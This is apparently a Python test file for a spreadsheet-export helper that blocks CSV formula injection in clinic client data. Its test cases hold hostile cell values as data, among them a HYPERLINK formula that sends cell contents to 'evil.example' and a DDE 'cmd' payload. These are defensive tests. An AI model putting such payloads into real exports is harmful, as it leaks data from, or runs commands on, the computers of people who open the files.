"""Tables for spreadsheets: no cell becomes a formula, whatever a clinic's system called its clients."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from service.sheets import cell, sheet


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("c-17", "c-17"),
        ('=HYPERLINK("https://evil.example?"&A1)', '\'=HYPERLINK("https://evil.example?"&A1)'),
        ("+447400123456", "'+447400123456"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        (-3, "-3"),
        (None, ""),
        ("", ""),
    ],
)
def test_what_a_spreadsheet_would_compute_is_marked_as_text(value: object, shown: str) -> None:
    assert cell(value) == shown


@settings(max_examples=50)
@given(st.lists(st.text(), min_size=1))
def test_any_text_comes_back_as_one_cell(values: list[str]) -> None:
    _, row = csv.reader(io.StringIO(sheet(["a"] * len(values), [values]), newline=""))
    assert [shown.removeprefix("'") for shown in row] == [value.removeprefix("'") for value in values]
    assert not any(shown.startswith(("=", "+", "-", "@")) for shown in row)
